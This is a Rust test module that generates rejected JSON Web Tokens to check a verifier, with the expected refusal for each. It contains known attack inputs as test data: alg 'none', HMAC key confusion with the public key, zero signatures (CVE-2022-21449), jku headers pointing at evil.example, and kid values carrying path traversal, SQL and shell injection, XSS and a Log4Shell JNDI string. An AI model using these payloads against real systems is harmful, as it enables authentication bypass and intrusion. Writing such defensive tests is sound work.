//! The bad tokens, by requirement.

use super::*;

/// The good claims with one member changed or, by `None`, left out.
fn with(name: &str, value: Option<Value>) -> Value {
    let mut object = serde_json::to_value(claims()).unwrap();
    match value {
        Some(value) => object[name] = value,
        None => drop(object.as_object_mut().unwrap().remove(name)),
    }
    object
}

/// The good header with one member set.
fn header_with(world: &World, name: &str, value: Value) -> Value {
    let mut header = world.header();
    header[name] = value;
    header
}

fn good_claims() -> Value {
    serde_json::to_value(claims()).unwrap()
}

pub(super) fn j1(world: &World) -> Vec<Bad> {
    let mut bad = Vec::new();
    let own = world.ring.active_signing().algorithm().as_str();
    let mut names = vec![
        "".to_owned(),
        " ES256".to_owned(),
        "ES256 ".to_owned(),
        own.to_lowercase(),
    ];
    // none in every mixture of cases
    for mask in 0..16_u8 {
        let name = "none"
            .char_indices()
            .map(|(i, c)| if mask >> i & 1 == 1 { c.to_ascii_uppercase() } else { c });
        names.push(name.collect());
    }
    let others = "HS256 HS384 HS512 RS256 RS384 RS512 PS256 PS384 PS512 ES256 ES256K ES384 ES512 EdDSA Ed25519 Ed448 \
                  ECDH-ES dir A128KW es256 Es256 eddsa EDDSA";
    names.extend(others.split_whitespace().map(str::to_owned));
    for name in names.iter().filter(|name| *name != own) {
        let header = header_with(world, "alg", json!(name));
        bad.push((
            format!("alg {name:?}, signed"),
            world.sign(&header, &good_claims()),
            Refusal::Algorithm,
        ));
        let unsigned = world.sign(&header, &good_claims());
        let unsigned = format!("{}.", unsigned.rsplit_once('.').unwrap().0);
        bad.push((format!("alg {name:?}, no signature"), unsigned, Refusal::Algorithm));
    }
    // The classic: HMAC with the public key, in every form an attacker can get it, as the secret.
    let jwks = world.ring.jwks();
    let kid = world.ring.active_signing().kid();
    let jwk = jwks["keys"]
        .as_array()
        .unwrap()
        .iter()
        .find(|key| key["kid"] == kid)
        .unwrap();
    let x = BASE64URL_NOPAD.decode(jwk["x"].as_str().unwrap().as_bytes()).unwrap();
    let y = BASE64URL_NOPAD
        .decode(jwk["y"].as_str().unwrap_or_default().as_bytes())
        .unwrap();
    let point = [&[4][..], &x, &y].concat();
    for (form, secret) in [
        ("point", point),
        ("x", x),
        ("jwk", jwk.to_string().into_bytes()),
        ("kid", kid.into()),
    ] {
        for (alg, refusal) in [("HS256", Refusal::Algorithm), (own, Refusal::Signature)] {
            let header = header_with(world, "alg", json!(alg));
            let signed = world.sign(&header, &good_claims());
            let message = signed.rsplit_once('.').unwrap().0;
            let key = EncodingKey::from_secret(&secret);
            let mac = jsonwebtoken::crypto::sign(message.as_bytes(), &key, Library::HS256).unwrap();
            bad.push((
                format!("HMAC with the public {form} as {alg}"),
                format!("{message}.{mac}"),
                refusal,
            ));
        }
    }
    for value in [
        json!(null),
        json!(256),
        json!(["ES256"]),
        json!({ "ES256": true }),
        json!(true),
    ] {
        let what = format!("alg of another type: {value}");
        bad.push((
            what,
            world.sign(&header_with(world, "alg", value), &good_claims()),
            Refusal::Algorithm,
        ));
    }
    let mut header = world.header();
    header.as_object_mut().unwrap().remove("alg");
    bad.push((
        "no alg".to_owned(),
        world.sign(&header, &good_claims()),
        Refusal::Algorithm,
    ));
    // Signatures that are none.
    let good = world.good();
    let (message, signature) = good.rsplit_once('.').unwrap();
    for (what, bytes) in [
        ("empty signature", vec![]),
        ("zeros (CVE-2022-21449)", vec![0; 64]),
        ("ones", vec![255; 64]),
        (
            "63 bytes",
            BASE64URL_NOPAD.decode(signature.as_bytes()).unwrap()[..63].to_vec(),
        ),
        (
            "65 bytes",
            [&BASE64URL_NOPAD.decode(signature.as_bytes()).unwrap()[..], &[0]].concat(),
        ),
        ("DER", [&[0x30, 0x44, 2, 32][..], &[1; 32], &[2, 32], &[1; 32]].concat()),
    ] {
        bad.push((
            what.to_owned(),
            format!("{message}.{}", BASE64URL_NOPAD.encode(&bytes)),
            Refusal::Signature,
        ));
    }
    let other = world.good();
    let mixed = format!("{message}.{}", other.rsplit_once('.').unwrap().1);
    bad.push(("signature of another token".to_owned(), mixed, Refusal::Signature));
    let stranger = super::world(world.ring.active_signing().algorithm());
    let message = world.sign(&world.header(), &good_claims());
    let foreign = stranger.sign_message(message.rsplit_once('.').unwrap().0);
    bad.push((
        "signed by a stranger under our kid".to_owned(),
        foreign,
        Refusal::Signature,
    ));
    bad
}

pub(super) fn j2(world: &World) -> Vec<Bad> {
    let jwk = world.ring.jwks()["keys"][0].clone();
    let forbidden = [
        ("crit", json!(["exp"])),
        ("crit", json!([])),
        ("crit", json!(["b64"])),
        ("crit", json!(null)),
        ("b64", json!(false)),
        ("b64", json!(true)),
        ("zip", json!("DEF")),
        ("enc", json!("A128GCM")),
        ("jwk", jwk.clone()),
        ("jwk", json!({})),
        ("jwk", json!(null)),
        ("jku", json!("https://evil.example/jwks.json")),
        ("jku", json!("https://mayfly.example/.well-known/jwks.json")),
        ("x5u", json!("https://evil.example/cert.pem")),
        ("x5c", json!(["MIIB"])),
        ("x5t", json!("AAAA")),
        ("x5t#S256", json!("AAAA")),
    ];
    let unknown = [
        ("cty", json!("JWT")),
        ("Crit", json!(["exp"])),
        ("JWK", jwk),
        ("nonce", json!("1")),
        ("iss", json!("https://mayfly.example")),
        ("ALG", json!("none")),
        ("", json!("")),
        ("exp", json!(NOW + 900)),
    ];
    let forbidden = forbidden
        .into_iter()
        .map(|(name, value)| (name, value, Refusal::HeaderForbidden));
    let unknown = unknown
        .into_iter()
        .map(|(name, value)| (name, value, Refusal::HeaderUnknown));
    forbidden
        .chain(unknown)
        .map(|(name, value, refusal)| {
            let what = format!("{name}: {value}");
            (
                what,
                world.sign(&header_with(world, name, value), &good_claims()),
                refusal,
            )
        })
        .collect()
}

pub(super) fn j3(world: &World) -> Vec<Bad> {
    let own = world.ring.active_signing().kid().to_owned();
    let bad_form = [
        "",
        "../../../../dev/null",
        "/etc/passwd",
        "file:///dev/null",
        "' OR '1'='1",
        "' UNION SELECT 'AA'--",
        "; sleep 5",
        "$(id)",
        "`id`",
        "| id",
        "%00",
        "\0",
        "kid\r\nX: y",
        "\u{202e}dik",
        "ключ",
        ".*",
        "^.*$",
        "*",
        "key id",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "http://evil.example",
        "a=b",
    ];
    let mut kids: Vec<(Value, Refusal)> = bad_form.iter().map(|kid| (json!(kid), Refusal::KeyId)).collect();
    kids.push((json!(format!("{own} ")), Refusal::KeyId));
    kids.push((json!(format!(" {own}")), Refusal::KeyId));
    kids.push((json!(format!("{own}\0")), Refusal::KeyId));
    kids.push((json!("a".repeat(65)), Refusal::KeyId));
    kids.push((json!("a".repeat(5000)), Refusal::KeyId));
    for value in [json!(null), json!(1), json!(true), json!([own]), json!({ "kid": own })] {
        kids.push((value, Refusal::KeyId));
    }
    let flip = |c: char| {
        if c.is_ascii_lowercase() {
            c.to_ascii_uppercase()
        } else {
            c.to_ascii_lowercase()
        }
    };
    for unknown in [
        own.chars().map(flip).collect(),
        own[1..].to_owned(),
        own[..own.len() - 1].to_owned(),
        format!("{own}A"),
        "edge-1".to_owned(),
        "undefined".to_owned(),
        "null".to_owned(),
        "__proto__".to_owned(),
        "0".to_owned(),
        "a".repeat(64),
        world.removed_kid.clone(),
    ] {
        kids.push((json!(unknown), Refusal::KeyUnknown));
    }
    // Another key's id leads to that key, which has not signed this.
    kids.push((json!(world.next_kid), Refusal::Signature));
    let mut bad: Vec<Bad> = kids
        .into_iter()
        .map(|(kid, refusal)| {
            let what = format!("kid {kid}");
            (
                what,
                world.sign(&header_with(world, "kid", kid), &good_claims()),
                refusal,
            )
        })
        .collect();
    let mut header = world.header();
    header.as_object_mut().unwrap().remove("kid");
    bad.push(("no kid".to_owned(), world.sign(&header, &good_claims()), Refusal::KeyId));
    bad
}

pub(super) fn j4(world: &World) -> Vec<Bad> {
    let typs = [
        json!("JWT"),
        json!("jwt"),
        json!("AT+JWT"),
        json!("At+Jwt"),
        json!("application/at+jwt"),
        json!("at+jwt "),
        json!(" at+jwt"),
        json!("at-jwt"),
        json!("at jwt"),
        json!(""),
        json!("logout+jwt"),
        json!("secevent+jwt"),
        json!("dpop+jwt"),
        json!("token-introspection+jwt"),
        json!("client-authentication+jwt"),
        json!("id_token"),
        json!("rt+jwt"),
        json!("at+jwt\0"),
        json!(null),
        json!(["at+jwt"]),
        json!({ "at+jwt": 1 }),
        json!(1),
    ];
    let mut bad: Vec<Bad> = typs
        .into_iter()
        .map(|typ| {
            (
                format!("typ {typ}"),
                world.sign(&header_with(world, "typ", typ), &good_claims()),
                Refusal::Typ,
            )
        })
        .collect();
    let mut header = world.header();
    header.as_object_mut().unwrap().remove("typ");
    bad.push(("no typ".to_owned(), world.sign(&header, &good_claims()), Refusal::Typ));
    bad
}

pub(super) fn j5(world: &World) -> Vec<Bad> {
    let mut bad = Vec::new();
    let mut refused = |what: String, claims: Value, refusal| {
        bad.push((what, world.sign(&world.header(), &claims), refusal));
    };
    for claim in Claim::ALL {
        let name = claim.as_str();
        refused(
            format!("{name} missing"),
            with(name, None),
            Refusal::ClaimMissing(claim),
        );
        let good = good_claims()[name].clone();
        let candidates = [
            json!(null),
            json!(true),
            json!(-1),
            json!(1.5),
            json!(""),
            json!("1800000000"),
            json!("text"),
            json!(1_800_000_000),
            json!([]),
            json!([good]),
            json!([1, 2]),
            json!([null]),
            json!([""]),
            json!({}),
            json!({ "0": good }),
        ];
        let wrong = candidates.into_iter().filter(|value| match &good {
            // "text" and "1800000000" are texts, and an issuer of another name is another refusal.
            Value::String(_) => !value.as_str().is_some_and(|text| !text.is_empty()) || is_id(claim),
            Value::Number(_) => value.as_u64().is_none(),
            _ => !value.as_array().is_some_and(Vec::is_empty),
        });
        for value in wrong {
            refused(
                format!("{name}: {value}"),
                with(name, Some(value)),
                Refusal::ClaimMistyped(claim),
            );
        }
    }
    let claims = claims();
    let sub = claims.sub.to_string();
    for form in [
        sub.to_uppercase(),
        sub.replace('-', ""),
        format!("{{{sub}}}"),
        format!("urn:uuid:{sub}"),
        sub + " ",
    ] {
        refused(
            format!("sub {form}"),
            with("sub", Some(json!(form))),
            Refusal::ClaimMistyped(Claim::Sub),
        );
    }
    for (claim, id) in [(Claim::Sid, claims.sid.0), (Claim::Jti, claims.jti.0)] {
        let short = BASE64URL_NOPAD.encode(id.as_bytes());
        // The last character carries two bits; the other four must be zero.
        let sloppy = format!("{}B", &short[..21]);
        let long = BASE64URL_NOPAD.encode(&[id.as_bytes().as_slice(), &[0]].concat());
        for form in [
            id.to_string(),
            format!("{short}=="),
            sloppy,
            long,
            short[..21].to_owned(),
            format!(" {short}"),
        ] {
            refused(
                format!("id {form}"),
                with(claim.as_str(), Some(json!(form))),
                Refusal::ClaimMistyped(claim),
            );
        }
    }
    for name in ["admin", "scope", "cnf", "email", "EXP", "iss ", "__proto__", "act"] {
        refused(
            format!("unknown claim {name}"),
            with(name, Some(json!(true))),
            Refusal::ClaimUnknown,
        );
    }
    for issuer in [
        "https://mayfly.example/",
        "http://mayfly.example",
        "https://MAYFLY.example",
        "https://staging.mayfly.example",
        "mayfly.example",
        "https://mayfly.example\0",
        "https://mayfly.example.evil.example",
    ] {
        refused(
            format!("iss {issuer:?}"),
            with("iss", Some(json!(issuer))),
            Refusal::Issuer,
        );
        refused(
            format!("aud {issuer:?}"),
            with("aud", Some(json!(issuer))),
            Refusal::Audience,
        );
    }
    bad
}

fn is_id(claim: Claim) -> bool {
    matches!(claim, Claim::Sub | Claim::Sid | Claim::Jti)
}

pub(super) fn j6(world: &World) -> Vec<Bad> {
    let table = [
        ("exp", NOW - 30, Refusal::Expired),
        ("exp", NOW - 31, Refusal::Expired),
        ("exp", 0, Refusal::Expired),
        ("exp", NOW, Refusal::Lifetime),
        ("exp", NOW - 1, Refusal::Lifetime),
        ("exp", NOW + 3601, Refusal::Lifetime),
        ("exp", NOW + 10 * 365 * 86400, Refusal::Lifetime),
        ("exp", i64::MAX, Refusal::Lifetime),
        ("exp", i64::MAX / 1000, Refusal::Lifetime),
        ("nbf", NOW + 31, Refusal::NotYetValid),
        ("nbf", NOW + 86400, Refusal::NotYetValid),
        ("nbf", i64::MAX, Refusal::NotYetValid),
        ("iat", NOW + 31, Refusal::IssuedInFuture),
        ("iat", NOW + 86400, Refusal::IssuedInFuture),
        ("iat", i64::MAX, Refusal::IssuedInFuture),
        ("iat", 0, Refusal::Lifetime),
        ("iat", NOW - 2701, Refusal::Lifetime),
    ];
    table
        .into_iter()
        .map(|(name, value, refusal)| {
            let what = format!("{name} = now{:+}", value.saturating_sub(NOW));
            (
                what,
                world.sign(&world.header(), &with(name, Some(json!(value)))),
                refusal,
            )
        })
        .collect()
}

pub(super) fn j7(world: &World) -> Vec<Bad> {
    let good = world.good();
    let parts: Vec<&str> = good.split('.').collect();
    let [header, claims, signature] = parts[..] else {
        panic!("a token has three parts")
    };
    let mut bad: Vec<Bad> = Vec::new();
    let mut refused = |what: &str, token: String, refusal| bad.push((what.to_owned(), token, refusal));

    refused("empty", String::new(), Refusal::Parts);
    refused("only dots", "..".to_owned(), Refusal::Parts);
    refused("one part", header.to_owned(), Refusal::Parts);
    refused("two parts", format!("{header}.{claims}"), Refusal::Parts);
    refused("four parts", format!("{good}.{signature}"), Refusal::Parts);
    refused(
        "five parts, as encrypted tokens have",
        format!("{good}.{claims}.{signature}"),
        Refusal::Parts,
    );
    refused("a dot before", format!(".{good}"), Refusal::Parts);
    refused("a dot behind", format!("{good}."), Refusal::Parts);
    refused("empty header", format!(".{claims}.{signature}"), Refusal::Parts);
    refused("empty claims", format!("{header}..{signature}"), Refusal::Parts);
    refused(
        "8,193 bytes",
        format!("{good}{}", "A".repeat(8193 - good.len())),
        Refusal::TooLong,
    );
    refused("a megabyte", "A".repeat(1 << 20), Refusal::TooLong);
    refused("dots without end", ".".repeat(8000), Refusal::Parts);

    for filler in [
        "=", "==", " ", "\n", "\t", "\r\n", "\0", "+", "/", "%3D", "é", "\u{feff}",
    ] {
        for (part, token) in [
            ("header", format!("{header}{filler}.{claims}.{signature}")),
            ("claims", format!("{header}.{claims}{filler}.{signature}")),
            ("signature", format!("{header}.{claims}.{signature}{filler}")),
            ("start", format!("{filler}{good}")),
            (
                "middle",
                format!("{header}.{}{filler}{}.{signature}", &claims[..8], &claims[8..]),
            ),
        ] {
            refused(&format!("{filler:?} in {part}"), token, Refusal::Base64);
        }
    }
    // 64 bytes leave four unused bits in the last character: only zeros are canonical.
    let last = signature.chars().last().unwrap();
    for other in "BCDEFGHIJKLMNOP".chars().filter(|_| "AQgw".contains(last)) {
        let shifted = char::from(match last {
            'A' => other as u8,
            'Q' => b"RSTUVWXYZabcdef"[usize::from(other as u8 - b'B')],
            'g' => b"hijklmnopqrstuv"[usize::from(other as u8 - b'B')],
            _ => b"xyz0123456789-_"[usize::from(other as u8 - b'B')],
        });
        let token = format!("{header}.{claims}.{}{shifted}", &signature[..signature.len() - 1]);
        refused(
            &format!("signature ends in {shifted} for {last}"),
            token,
            Refusal::Base64,
        );
    }
    refused(
        "a length no bytes have",
        format!("{header}.{claims}.{}", &signature[..85]),
        Refusal::Base64,
    );

    let header_text = world.header().to_string();
    let claims_text = good_claims().to_string();
    let mut signed = |what: &str, header: &[u8], claims: &[u8], refusal| {
        bad.push((what.to_owned(), world.sign_bytes(header, claims), refusal));
    };
    let body = |text: &str| text[1..].to_owned();
    let kid = world.ring.active_signing().kid();
    let duplicates = [
        format!(r#"{{"alg":"none",{}"#, body(&header_text)),
        format!(r#"{{"typ":"at+jwt",{}"#, body(&header_text)),
        format!(r#"{{"kid":"{kid}",{}"#, body(&header_text)),
        // the same name, written with an escape
        format!(r#"{{"\u0061lg":"none",{}"#, body(&header_text)),
    ];
    for text in &duplicates {
        signed(
            "duplicate in header",
            text.as_bytes(),
            claims_text.as_bytes(),
            Refusal::DuplicateMember,
        );
    }
    for claim in Claim::ALL {
        let name = claim.as_str();
        let text = format!(r#"{{"{name}":{},{}"#, good_claims()[name], body(&claims_text));
        signed(
            &format!("{name} twice"),
            header_text.as_bytes(),
            text.as_bytes(),
            Refusal::DuplicateMember,
        );
    }
    let nested = format!(r#"{{"extra":{{"a":1,"a":2}},{}"#, body(&claims_text));
    signed(
        "duplicate inside",
        header_text.as_bytes(),
        nested.as_bytes(),
        Refusal::DuplicateMember,
    );
    let nested = format!(r#"{{"extra":[[{{"a":1,"b":0,"a":2}}]],{}"#, body(&claims_text));
    signed(
        "duplicate deep inside",
        header_text.as_bytes(),
        nested.as_bytes(),
        Refusal::DuplicateMember,
    );

    let deep = format!("{}{}", "[".repeat(2000), "]".repeat(2000));
    let no_objects: [(&str, &[u8], Refusal); 18] = [
        ("an array", b"[]", Refusal::Json),
        ("a text", b"\"text\"", Refusal::Json),
        ("null", b"null", Refusal::Json),
        ("a number", b"1", Refusal::Json),
        ("true", b"true", Refusal::Json),
        ("two objects", b"{}{}", Refusal::Json),
        ("something behind", b"{} x", Refusal::Json),
        ("no end", b"{\"a\":1", Refusal::Json),
        ("a comma too many", b"{\"a\":1,}", Refusal::Json),
        ("a comment", b"{/**/}", Refusal::Json),
        ("single quotes", b"{'a':1}", Refusal::Json),
        ("NaN", b"{\"a\":NaN}", Refusal::Json),
        ("a raw line end in a text", b"{\"a\":\"\n\"}", Refusal::Json),
        ("half a surrogate pair", b"{\"a\":\"\\ud800\"}", Refusal::Json),
        ("a byte order mark", b"\xef\xbb\xbf{}", Refusal::Json),
        ("not UTF-8", b"{\"a\":\"\xff\"}", Refusal::Utf8),
        ("UTF-16", b"\xff\xfe{\0}\0", Refusal::Utf8),
        ("nested too deeply", deep.as_bytes(), Refusal::Json),
    ];
    for (what, bytes, refusal) in no_objects {
        if bytes.len() < 1000 {
            signed(&format!("header is {what}"), bytes, claims_text.as_bytes(), refusal);
        }
        signed(&format!("claims are {what}"), header_text.as_bytes(), bytes, refusal);
    }
    bad
}
